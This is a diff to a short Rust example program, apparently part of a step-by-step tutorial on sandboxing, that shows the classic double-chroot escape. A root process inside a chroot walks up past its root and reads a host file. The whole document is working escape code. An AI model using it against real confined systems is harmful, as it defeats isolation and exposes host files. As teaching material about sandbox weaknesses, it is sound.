@@ -2,24 +2,27 @@
 //!
 //! chroot(2) says so itself: it "does not change the current working directory". So a second chroot leaves this process
 //! standing outside its own root, and from there `..` leads up without end. Only root (inside) can do it.
+//!
+//! It needs a root that has it: `rootfs-scripts/host.sh /tmp/root target/debug/examples/chroot_breakout`; then
+//! `target/debug/examples/step03_first_try /tmp/root chroot_breakout /etc/hostname`, and the same in step03.
 
 use nix::unistd::{chdir, chroot};
 
 fn main() {
     let file = std::env::args().nth(1).expect("a file of the host");
-    let folder = format!("/tmp/breakout-{}", std::process::id());
+    let folder = format!("breakout-{}", std::process::id());
     let escape = || -> std::io::Result<String> {
-        std::fs::create_dir_all(&folder)?;
+        chdir("/tmp")?;
+        std::fs::create_dir(&folder)?;
         chroot(folder.as_str())?; // and we stand outside it
+        std::fs::remove_dir(&folder)?;
         for _ in 0..64 {
             chdir("..")?;
         }
         chroot(".")?;
         std::fs::read_to_string(&file)
     };
-    let found = escape();
-    let _ = std::fs::remove_dir(&folder);
-    match found {
+    match escape() {
         Ok(text) => print!("broke out: {text}"),
         Err(error) => println!("still inside: {error}"),
     }
